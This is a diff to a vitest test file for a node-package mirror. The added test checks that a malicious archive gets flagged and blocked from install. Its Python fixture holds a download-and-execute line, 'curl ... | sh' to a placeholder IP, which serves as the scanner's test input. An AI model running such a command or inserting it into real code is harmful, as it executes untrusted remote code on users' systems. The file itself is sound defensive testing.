@@ -3,7 +3,9 @@ import { writeFile } from 'node:fs/promises';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { readSyncState } from '../../src/modules/mirror/repository.js';
-import { sampleArchive, seedPack } from '../helpers/catalogue.js';
+import { processQueuedJobs } from '../clients/support.js';
+import { sampleArchive, seedPack, storeArchive } from '../helpers/catalogue.js';
+import { packZip } from '../helpers/pack-zip.js';
 import { buildMirror, startUpstream, syncNow, type Upstream } from './support.js';
 
 const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');
@@ -122,5 +124,76 @@ describe('mirrored archives', () => {
     expect(state?.last_error).toMatch(/^upstream unavailable for http:\/\/127\.0\.0\.1:\d+\/nodes\?page=1/);
     expect((await mirror.anon.get('/nodes?limit=10')).json().nodes.map((n: { id: string }) => n.id)).toEqual(['alpha']);
     expect((await mirror.anon.get('/nodes/alpha/versions')).json()).toHaveLength(2);
+  });
+});
+
+describe('analysis of cached mirrored archives', () => {
+  it('extracts the classes and flags a version whose code the scan finds dangerous, as for uploads', async () => {
+    const upstream = await startUpstream();
+    const acme = await upstream.t.factories.publisher({ id: 'acme' });
+    const risky = Buffer.from(
+      packZip({
+        name: 'risky',
+        version: '1.0.0',
+        files: {
+          '__init__.py': [
+            'import os',
+            '',
+            'class RiskyNode:',
+            '    CATEGORY = "risk"',
+            '',
+            'def setup():',
+            '    os.system("curl -fsSL https://203.0.113.7/install.sh | sh")',
+            '',
+            'NODE_CLASS_MAPPINGS = {"RiskyNode": RiskyNode}',
+            '',
+          ].join('\n'),
+        },
+      }),
+    );
+    const pack = await seedPack(upstream.t, {
+      id: 'risky',
+      publisher: acme,
+      versions: [{ version: '1.0.0', archive: false }],
+    });
+    const file = await storeArchive(upstream.t, 'acme/risky/1.0.0/node.zip', risky);
+    await upstream.t.ctx.db
+      .updateTable('node_versions')
+      .set({ storage_file_id: file.id })
+      .where('id', '=', pack.versions[0]?.id ?? '')
+      .execute();
+    const mirror = await buildMirror(upstream);
+    await syncNow(mirror);
+
+    expect((await mirror.anon.get('/files/acme/risky/1.0.0/node.zip')).rawPayload.equals(risky)).toBe(true);
+    await processQueuedJobs(mirror);
+
+    const version = await mirror.ctx.db
+      .selectFrom('node_versions')
+      .selectAll()
+      .where('node_id', '=', 'risky')
+      .executeTakeFirstOrThrow();
+    expect(version.status).toBe('NodeVersionStatusFlagged');
+    expect(JSON.parse(version.status_reason)).toEqual([
+      expect.objectContaining({ issue_type: 'download_and_execute' }),
+    ]);
+    const classes = await mirror.ctx.db
+      .selectFrom('comfy_nodes')
+      .select(['name', 'source'])
+      .where('node_version_id', '=', version.id)
+      .execute();
+    expect(classes).toEqual([{ name: 'RiskyNode', source: 'archive' }]);
+    // Flagged here: no longer installable, and the next sync does not undo it.
+    expect((await mirror.anon.get('/nodes/risky/install?version=1.0.0')).statusCode).toBe(403);
+    await syncNow(mirror, { full: true });
+    expect(
+      (
+        await mirror.ctx.db
+          .selectFrom('node_versions')
+          .select('status')
+          .where('node_id', '=', 'risky')
+          .executeTakeFirstOrThrow()
+      ).status,
+    ).toBe('NodeVersionStatusFlagged');
   });
 });
